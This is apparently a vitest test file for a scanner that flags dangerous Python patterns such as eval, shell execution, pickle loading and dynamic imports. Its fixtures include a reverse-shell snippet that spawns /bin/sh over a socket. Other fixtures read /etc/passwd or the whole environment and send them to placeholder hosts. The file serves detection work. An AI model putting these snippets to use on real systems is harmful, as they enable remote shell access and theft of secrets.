import { describe, expect, it } from "vitest";
import { pythonFindings } from "./rules-python.js";

const ids = (source: string): string[] => pythonFindings("scripts/tool.py", source).map((f) => f.ruleId);

describe("pythonFindings", () => {
  it("flags eval and exec call sites as CRITICAL with their line", () => {
    const findings = pythonFindings("scripts/tool.py", "x = 1\nvalue = eval(expr)\nexec(code)\n");
    expect(findings.map((f) => [f.ruleId, f.severity, f.line])).toEqual([
      ["python-dynamic-exec", "CRITICAL", 2],
      ["python-dynamic-exec", "CRITICAL", 3],
    ]);
  });

  it("flags compile in exec mode but not in eval mode", () => {
    expect(ids('compile(src, "<s>", "exec")\n')).toEqual(["python-dynamic-exec"]);
    expect(ids('compile(src, "<s>", mode="exec")\n')).toEqual(["python-dynamic-exec"]);
    expect(ids('compile(src, "<s>", "eval")\n')).toEqual([]);
  });

  it("ignores eval in comments, docstrings, strings, methods and definitions", () => {
    const source = [
      '"""Never call eval( on input; exec( is worse."""',
      "# eval(x) is dangerous",
      'print("use exec(code) carefully")',
      "model.eval()",
      "re.compile(r'x')",
      "def exec(self): pass",
    ].join("\n");
    expect(ids(source)).toEqual([]);
  });

  it("sees code inside f-string replacement fields", () => {
    expect(ids('print(f"{eval(x)}")\n')).toEqual(["python-dynamic-exec"]);
  });

  it("flags os.system and os.popen, including through from-imports", () => {
    expect(ids("import os\nos.system('ls')\n")).toEqual(["python-shell-exec"]);
    expect(ids("from os import popen as run\nrun('ls')\n")).toEqual(["python-shell-exec"]);
  });

  it("flags subprocess with shell=True, a non-literal shell or **kwargs", () => {
    expect(ids("import subprocess\nsubprocess.run(cmd, shell=True)\n")).toEqual(["python-shell-exec"]);
    expect(ids("import subprocess as sp\nsp.Popen(cmd,\n  shell=flag)\n")).toEqual(["python-shell-exec"]);
    expect(ids("import subprocess\nsubprocess.call(cmd, **opts)\n")).toEqual(["python-shell-exec"]);
  });

  it("flags subprocess without a shell as HIGH", () => {
    const findings = pythonFindings(
      "scripts/tool.py",
      "import subprocess\nsubprocess.run(['ls', '-l'], shell=False, timeout=2**4)\n",
    );
    expect(findings.map((f) => [f.ruleId, f.severity])).toEqual([["python-subprocess", "HIGH"]]);
  });

  it("ignores shell=True inside a string argument", () => {
    expect(ids("import subprocess\nsubprocess.run(['echo', 'shell=True'])\n")).toEqual(["python-subprocess"]);
  });

  it("flags dynamic imports of non-literal modules only", () => {
    expect(ids("__import__(name)\n")).toEqual(["python-dynamic-import"]);
    expect(ids("import importlib\nimportlib.import_module(plugin)\n")).toEqual(["python-dynamic-import"]);
    expect(ids("import importlib\nimportlib.import_module('json')\n__import__(\"os\")\n")).toEqual([]);
  });

  it("flags pickle loads and yaml.load without a safe loader", () => {
    expect(ids("import pickle\npickle.loads(blob)\n")).toEqual(["python-unsafe-deserialization"]);
    expect(ids("import yaml\nyaml.load(f)\n")).toEqual(["python-unsafe-deserialization"]);
    expect(ids("import yaml\nyaml.load(f, Loader=yaml.SafeLoader)\nyaml.safe_load(f)\n")).toEqual([]);
  });

  it("flags the socket + dup2 + subprocess reverse-shell shape", () => {
    const source = [
      "import socket, os, subprocess",
      "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)",
      "s.connect((host, 4444))",
      "os.dup2(s.fileno(), 0)",
      'subprocess.call(["/bin/sh", "-i"])',
    ].join("\n");
    const findings = pythonFindings("scripts/tool.py", source);
    expect(findings.find((f) => f.ruleId === "python-reverse-shell")).toMatchObject({ severity: "CRITICAL", line: 4 });
  });

  it("ignores a reverse shell described in prose", () => {
    expect(
      ids(
        '"""A reverse shell uses socket.socket(), os.dup2() and subprocess.call()."""\n# socket.socket() os.dup2() subprocess.call()\n',
      ),
    ).toEqual([]);
  });

  it("flags a sensitive read with a network sink as CRITICAL exfiltration", () => {
    const source =
      "import requests\ndata = open('/etc/passwd').read()\nrequests.post('https://collector.example', data=data)\n";
    expect(ids(source)).toEqual(["python-sensitive-exfil"]);
  });

  it("flags a sensitive read alone as HIGH", () => {
    expect(ids("print(open('/etc/passwd').read())\n")).toEqual(["python-sensitive-path-read"]);
  });

  it("flags a bulk environment read with a network sink", () => {
    const source =
      "import os, json, urllib.request\nbody = json.dumps(dict(os.environ))\nurllib.request.urlopen('https://x.example', body)\n";
    expect(ids(source)).toEqual(["python-env-dump-exfil"]);
    expect(
      ids("import os, requests\nfor k, v in os.environ.items():\n    requests.get('https://x.example')\n"),
    ).toEqual(["python-env-dump-exfil"]);
  });

  it("ignores single environment lookups next to a network sink", () => {
    const source =
      "import os, requests\nkey = os.environ['API_KEY']\nurl = os.environ.get('URL')\nrequests.get('https://api.example.com', headers={'k': key})\n";
    expect(ids(source)).toEqual([]);
  });
});

describe("pythonFindings limits", () => {
  it("reports at most 100 sites per rule and one per line", () => {
    const source = "import subprocess\n" + "subprocess.run(['a']); subprocess.run(['b'])\n".repeat(150);
    const findings = pythonFindings("scripts/gen.py", source);
    expect(findings).toHaveLength(100);
    expect(new Set(findings.map((f) => f.line)).size).toBe(100);
  });

  it("handles unclosed and deeply nested calls", () => {
    expect(ids("subprocess.run(\n".repeat(3) + "import subprocess\n")).toEqual([
      "python-subprocess",
      "python-subprocess",
      "python-subprocess",
    ]);
    expect(ids("import subprocess\n" + "subprocess.run(".repeat(500) + "shell=True" + ")".repeat(500))).toEqual([
      "python-subprocess",
      "python-shell-exec",
    ]);
  });
});
